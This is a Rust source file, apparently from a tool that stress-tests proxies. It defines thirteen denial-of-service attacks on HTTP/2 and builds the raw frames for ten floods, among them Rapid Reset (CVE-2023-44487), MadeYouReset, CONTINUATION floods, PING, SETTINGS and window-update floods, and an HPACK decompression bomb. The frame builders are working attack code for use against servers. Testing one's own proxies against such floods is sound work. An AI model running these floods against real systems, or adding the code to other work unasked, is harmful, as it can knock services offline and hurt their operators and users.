//! The attacks by name, and the frames of those that flood an HTTP/2 connection. Pure.

use crate::stand::frames::{self, END_HEADERS, block, code, frame, integer, kind, reset, settings, string, window_update};
use std::fmt;
use std::str::FromStr;

/// A way to abuse a proxy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are reset as soon as they are sent (CVE-2023-44487).
    RapidReset,
    /// Requests that the server must reset because of what follows (CVE-2025-8671).
    MadeYouReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// DATA frames without data.
    EmptyData,
    /// CONTINUATION frames without anything (CVE-2019-9518).
    EmptyContinuation,
    /// PING.
    Ping,
    /// SETTINGS.
    Settings,
    /// PRIORITY.
    Priority,
    /// Window updates of one byte.
    Window,
    /// Heads of a few bytes that mean many KiB.
    HpackBomb,
    /// A head, a byte now and then.
    SlowHeads,
    /// A body, a byte now and then.
    SlowBodies,
    /// A large answer, taken in small sips.
    SlowReads,
}

impl Attack {
    /// Those that flood an HTTP/2 connection.
    pub const FLOODS: [Self; 10] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyData,
        Self::EmptyContinuation,
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::Window,
        Self::HpackBomb,
    ];
    /// Those that hold connections open.
    pub const SLOW: [Self; 3] = [Self::SlowHeads, Self::SlowBodies, Self::SlowReads];

    /// The name on command lines.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid-reset",
            Self::MadeYouReset => "made-you-reset",
            Self::Continuation => "continuation",
            Self::EmptyData => "empty-data",
            Self::EmptyContinuation => "empty-continuation",
            Self::Ping => "ping",
            Self::Settings => "settings",
            Self::Priority => "priority",
            Self::Window => "window",
            Self::HpackBomb => "hpack-bomb",
            Self::SlowHeads => "slow-heads",
            Self::SlowBodies => "slow-bodies",
            Self::SlowReads => "slow-reads",
        }
    }

    /// Frames for the connection's start, after preface and SETTINGS.
    pub fn opening(self) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => frame(kind::HEADERS, 0, 1, &request()),
            Self::EmptyData | Self::Window => frame(kind::HEADERS, END_HEADERS, 1, &request()),
            Self::HpackBomb => {
                // An entry of nearly the whole table, to be named again and again.
                let mut block = request();
                block.push(0x40);
                string(&mut block, b"x");
                string(&mut block, &[b'y'; 3900]);
                frame(kind::HEADERS, END_HEADERS | frames::END_STREAM, 1, &block)
            }
            _ => Vec::new(),
        }
    }

    /// The frames of one round; rounds are counted from 0. Good for about a kilobyte.
    pub fn round(self, number: u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        for at in 0..16 {
            // Stream 1 belongs to the opening.
            let stream = (number.wrapping_mul(16) + at) % 0x3000_0000 * 2 + 3;
            bytes.extend(self.frames(stream));
        }
        bytes
    }

    fn frames(self, stream: u32) -> Vec<u8> {
        let open = |end| frame(kind::HEADERS, END_HEADERS | end, stream, &request());
        match self {
            Self::RapidReset => [open(frames::END_STREAM), reset(stream, code::CANCEL)].concat(),
            Self::MadeYouReset => [open(frames::END_STREAM), window_update(stream, 0)].concat(),
            Self::Continuation => frame(kind::CONTINUATION, 0, 1, &block(&[("x-more", "and more")])),
            Self::EmptyContinuation => frame(kind::CONTINUATION, 0, 1, &[]),
            Self::EmptyData => frame(kind::DATA, 0, 1, &[]),
            Self::Ping => frame(kind::PING, 0, 0, &[7; 8]),
            Self::Settings => settings(&[(frames::INITIAL_WINDOW_SIZE, 65_535)]),
            Self::Priority => frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Self::Window => window_update(1, 1),
            Self::HpackBomb => {
                let mut block = request();
                for _ in 0..4000 {
                    integer(&mut block, 0x80, 7, 62);
                }
                frame(kind::HEADERS, END_HEADERS | frames::END_STREAM, stream, &block)
            }
            Self::SlowHeads | Self::SlowBodies | Self::SlowReads => Vec::new(),
        }
    }
}

/// The head of a GET.
fn request() -> Vec<u8> {
    block(&[(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")])
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, String> {
        let mut all = Self::FLOODS.into_iter().chain(Self::SLOW);
        all.find(|attack| attack.name() == text).ok_or_else(|| format!("no attack is called {text}"))
    }
}
